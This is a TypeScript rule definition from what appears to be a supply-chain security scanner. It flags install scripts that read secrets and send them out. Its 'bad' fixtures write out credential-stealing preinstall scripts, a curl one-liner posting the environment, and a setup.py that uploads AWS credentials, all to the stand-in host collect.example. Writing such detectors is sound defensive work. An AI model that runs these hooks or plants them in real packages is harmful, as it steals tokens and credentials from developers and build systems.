import { exampleFiles } from '../../example-files.ts'
import type { WordySupplyChainRule } from '../../remark.ts'
import { deeds } from './install-deeds.ts'

const of = (preinstall: string, files: Record<string, string> = {}) =>
  exampleFiles({
    'package.json': JSON.stringify({ name: 'example-shop', version: '1.2.0', scripts: { preinstall } }, undefined, 2),
    ...files,
  })

export const installScriptTakesSecrets: WordySupplyChainRule = {
  document: {
    id: 'install-script-takes-secrets',
    title: 'An installation reads secrets and sends something',
    category: 'supply-chain',
    severity: 'critical',
    precision: 'medium',
    cwe: ['CWE-506', 'CWE-200'],
    owaspMcp: ['MCP01:2025', 'MCP04:2025'],
    safeMcp: ['SAFE-T1002', 'SAFE-T1502'],
    what:
      'A script that npm runs at installation, a `setup.py` or a build backend of the package reads the ' +
      'environment, files of credentials, or who and where the user is, and sends data to an address.',
    why:
      'An installation runs with the rights of whoever installs, on machines of developers and in builds, ' +
      'where tokens for publishing lie.',
    remediation:
      'Do not install it. Where it was installed, replace every secret that was on that machine, from another one.',
    examples: {
      bad: [
        of('node collect.js', {
          'collect.js':
            "const https = require('https')\nconst request = https.request({ host: 'collect.example', " +
            "method: 'POST' })\nrequest.write(JSON.stringify(process.env))\nrequest.end()",
        }),
        of('node install.js', {
          'install.js':
            "const https = require('https')\nconst headers = { authorization: process.env.GITHUB_TOKEN " +
            '}\nhttps.get(`https://api.github.com/user`, { headers ' +
            '})\nhttps.get(`https://collect.example/${process.env.GITHUB_TOKEN}`)',
        }),
        of('curl -s -d "$(env)" https://collect.example/'),
        exampleFiles({
          'setup.py':
            "import os, requests\nfrom setuptools import setup\n\nrequests.post('https://collect.example', " +
            "data=open(os.path.expanduser('~/.aws/credentials')).read())\nsetup(name='example-shop')",
        }),
      ],
      good: [
        of('node build.js', {
          'build.js':
            "const { spawnSync } = require('child_process')\nspawnSync('make', { env: { ...process.env, CI: '1' } })",
        }),
        of('node-gyp-build'),
        of('node install.js', {
          'install.js':
            "const https = require('https')\nconst headers = process.env.GITHUB_TOKEN ? { authorization: " +
            'process.env.GITHUB_TOKEN } : ' +
            '{}\nhttps.get(`https://api.github.com/repos/acme/shop/releases/assets/${process.platform}`, { ' +
            'headers })',
        }),
      ],
    },
  },
  find: (project) => deeds(project, 'takesSecrets', installScriptTakesSecrets.document),
}
